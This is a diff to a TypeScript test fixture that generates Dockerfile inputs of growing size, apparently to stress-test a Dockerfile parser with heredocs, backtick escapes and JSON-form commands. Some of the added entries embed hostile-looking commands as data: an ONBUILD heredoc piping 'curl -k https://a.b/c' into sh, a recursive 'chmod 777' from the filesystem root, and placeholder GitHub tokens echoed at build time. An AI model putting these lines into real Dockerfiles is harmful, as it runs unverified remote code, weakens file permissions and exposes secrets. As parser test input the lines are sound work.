@@ -61,6 +61,13 @@ export const dockerfileShapes: readonly Shape[] = [
       `RUN cat${fill(size / 2, (i) => ` <<A${i}`)}\n${fill(size / 2, (i) => `x\nA${i}\n`)}`,
     'here-documents without end': (size) => `RUN cat${fill(size, (i) => ` <<A${i}`)}\n`,
     'here-documents that COPY': (size) => fill(size, (i) => `COPY <<E /a${i}\nx\nE\n`),
+    'here-documents of ONBUILD': (size) =>
+      fill(size, () => 'ONBUILD RUN <<E\ncurl -k https://a.b/c | sh\nE\n'),
+    'a URL of URLs': (size) => `ENV A=${'postgres://u:p4ssw@'.repeat(size / 19)}\n`,
+    'modes of one command': (size) => `RUN find / ${fill(size, () => '-exec chmod 777 {} \\; ')}\n`,
+    'credentials as arguments': (size) =>
+      fill(size, (i) => `ARG TOKEN_${i}=ghp_${'a'.repeat(36)}\nRUN echo $TOKEN_${i}\n`),
+    'owners and modes': (size) => fill(size, (i) => `COPY --chown=u${i}:g --chmod=0777 a /a${i}\n`),
     'JSON form': (size) => `CMD [${'"a",'.repeat(size / 4)}"a"]\n`,
     'JSON that nests': (size) => `CMD ${nest(size, '[', ']')}\n`,
     'JSON that is none': (size) => fill(size, () => 'CMD ["a", "b\'\n'),
@@ -102,5 +109,9 @@ export const dockerfileShapes: readonly Shape[] = [
     'directives and comments': (size) => `${fill(size, (i) => `# d${i}=x\n`)}${image}`,
     'a long image name': (size) => `FROM ${'a/'.repeat(size / 2)}a\n`,
     'a long tag': (size) => `FROM a:${'a'.repeat(size)}\n`,
+  }),
+  ...shapesOf('Dockerfile', '# escape=`\nFROM debian:12\n', {
+    'continued by backticks': (size) => `RUN a ${'`\n b '.repeat(size / 4)}\n`,
+    'here-documents and backticks': (size) => fill(size, () => 'RUN <<E `\n  && x\necho `\nE\n'),
   }),
 ];
